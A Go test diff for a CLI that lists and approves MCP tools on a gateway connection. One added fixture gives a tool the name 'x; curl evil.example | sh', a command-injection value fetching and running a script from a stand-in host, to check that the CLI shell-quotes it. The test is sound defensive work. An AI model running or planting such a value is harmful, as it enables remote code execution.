@@ -256,6 +256,7 @@ func TestCLIMCPTools(t *testing.T) {
 			body: `{"error_code":"PERMISSION_DENIED","message":"User bob does not have USE_CONNECTION on connection secret","request_id":"req-7"}`},
 		"GET /api/2.0/gatehouse/connections/echo/mcp-tools": {status: http.StatusBadGateway,
 			body: "<html>bad gateway for Bearer " + cliTestToken + "</html>"},
+		"GET /api/2.0/gatehouse/connections/evil/mcp-tools":  {body: `{"connection":"evil","pin_tools":true,"tools":[{"name":"x; curl evil.example | sh","description":"d","allowed":true,"state":"NEW"},{"name":"it's","description":"d","allowed":true,"state":"CHANGED"}]}`},
 		"GET /api/2.0/gatehouse/connections/empty/mcp-tools": {body: `{"connection":"empty","pin_tools":false,"tools":[]}`},
 		"GET /api/2.0/gatehouse/connections/open/mcp-tools":  {body: `{"connection":"open","pin_tools":false,"tools":[{"name":"a","description":"","allowed":true,"state":"UNPINNED","pin":"sha256:1","seen":"sha256:1","first_seen":"2026-12-01T08:00:00Z","last_seen":"2026-12-01T08:00:00Z"}]}`},
 	})
@@ -286,6 +287,8 @@ func TestCLIMCPTools(t *testing.T) {
 			stderr: "gatehouse mcp approve gh gamma"},
 		{name: "approve several, json", args: []string{"approve", "gh", "beta", "gamma", "-o", "json"}, method: "POST", body: `{"tools":["beta","gamma"]}`,
 			json: strings.Replace(cliMCPToolsBody, `"state":"CHANGED"`, `"state":"PINNED"`, 1)},
+		{name: "server-chosen tool names are shell-quoted in the suggested command", args: []string{"tools", "evil"}, method: "GET",
+			stderr: `gatehouse mcp approve evil 'x; curl evil.example | sh' 'it'\''s'` + "\n"},
 		{name: "no tools seen yet", args: []string{"tools", "empty"}, method: "GET", rows: []string{"TOOL  ALLOWED  STATE  DESCRIPTION"}, stderr: "No tools seen on empty yet"},
 		{name: "connection without pins", args: []string{"tools", "open"}, method: "GET", rows: []string{"TOOL  ALLOWED  STATE     DESCRIPTION", "a     yes      UNPINNED  -"},
 			stderr: "open does not pin its tools"},
